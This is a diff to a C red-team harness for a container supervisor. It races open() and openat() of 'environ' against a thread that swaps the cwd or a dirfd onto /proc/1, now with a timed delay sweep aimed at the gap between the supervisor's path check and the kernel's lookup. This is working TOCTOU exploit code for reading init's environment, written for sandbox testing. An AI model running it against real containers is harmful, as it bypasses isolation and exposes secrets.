@@ -1,7 +1,8 @@
 /* Container red team: attacks that need no mediated call to set up (built static).
  *
  *   race-cwd  N      open("environ") N times relative to the cwd while another thread
- *                    moves the cwd between /tmp/d (an allowed file) and /proc/1
+ *                    moves the cwd from /tmp/d (an allowed file) to /proc/1 and back at
+ *                    a chosen delay after each open starts (see flipper)
  *   race-dirfd N     the same with openat(dirfd) while another thread dup2()s /proc/1
  *                    over the dirfd
  *   benign-race N    the opens alone (cwd /tmp/d, no flipping): what the model learns
@@ -19,44 +20,58 @@
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/syscall.h>
+#include <time.h>
 #include <unistd.h>
 
 static volatile int stop;
-static int dirfd_slot = 100, fd_good, fd_proc;
+static volatile long go;  /* the opener's iteration, set just before each open */
+static int dirfd_slot = 100, fd_good, fd_proc, use_dirfd;
 
-static void spin(unsigned n) {
-    for (volatile unsigned i = 0; i < n; i++) {
+static long now_ns(void) {
+    struct timespec t;
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return t.tv_sec * 1000000000L + t.tv_nsec;
+}
+
+static void wait_until(long t) {
+    while (now_ns() < t && !stop) {
     }
 }
 
-static void *flip_cwd(void *arg) {
+static void to_proc(void) {
+    if (use_dirfd) dup2(fd_proc, dirfd_slot);
+    else if (chdir("/proc/1") != 0) stop = 1;
+}
+
+static void to_good(void) {
+    if (use_dirfd) dup2(fd_good, dirfd_slot);
+    else if (chdir("/tmp/d") != 0) stop = 1;
+}
+
+/* For each open, wait a delay after the opener starts it, move the cwd (dirfd) onto
+ * /proc/1 for a few microseconds, and move it back. The delay shrinks by 1 us per open,
+ * from 3 ms down to 0: it passes through the moment between a supervisor's check of the
+ * path and the kernel's own resolution of it, if there is such a moment, before it gets
+ * early enough for the check itself to see /proc/1. */
+static void *flipper(void *arg) {
     (void)arg;
-    unsigned r = 1;
+    long seen = 0;
     while (!stop) {
-        r = r * 1103515245u + 12345u;
-        if (chdir("/proc/1") != 0) return NULL;
-        spin(200 + (r >> 16) % 4000);
-        if (chdir("/tmp/d") != 0) return NULL;
-        spin(200 + (r >> 8) % 4000);
+        long i = go;
+        if (i == seen) continue;
+        seen = i;
+        long start = now_ns();
+        long delay = 3000000L - 1000L * i;
+        if (delay < 0) delay = (i * 7919L) % 3000000L;  /* then at random */
+        wait_until(start + delay);
+        to_proc();
+        wait_until(now_ns() + 3000);
+        to_good();
     }
     return NULL;
 }
-
-static void *flip_dirfd(void *arg) {
-    (void)arg;
-    unsigned r = 7;
-    while (!stop) {
-        r = r * 1103515245u + 12345u;
-        dup2(fd_proc, dirfd_slot);
-        spin(200 + (r >> 16) % 4000);
-        dup2(fd_good, dirfd_slot);
-        spin(200 + (r >> 8) % 4000);
-    }
-    return NULL;
-}
-
 static int race(const char *mode, long n) {
-    int use_dirfd = strcmp(mode, "race-dirfd") == 0;
+    use_dirfd = strcmp(mode, "race-dirfd") == 0;
     int flip = strncmp(mode, "race-", 5) == 0;
     long ok = 0, bad = 0, leaks = 0;
     char buf[4096];
@@ -66,9 +81,9 @@ static int race(const char *mode, long n) {
     if (fd_good < 0 || fd_proc < 0) return 2;
     dup2(fd_good, dirfd_slot);
     pthread_t t;
-    if (flip && pthread_create(&t, NULL, use_dirfd ? flip_dirfd : flip_cwd, NULL) != 0)
-        return 2;
+    if (flip && pthread_create(&t, NULL, flipper, NULL) != 0) return 2;
     for (long i = 0; i < n; i++) {
+        go = i + 1;
         int fd = use_dirfd ? openat(dirfd_slot, "environ", O_RDONLY) : open("environ", O_RDONLY);
         if (fd < 0) {
             bad++;
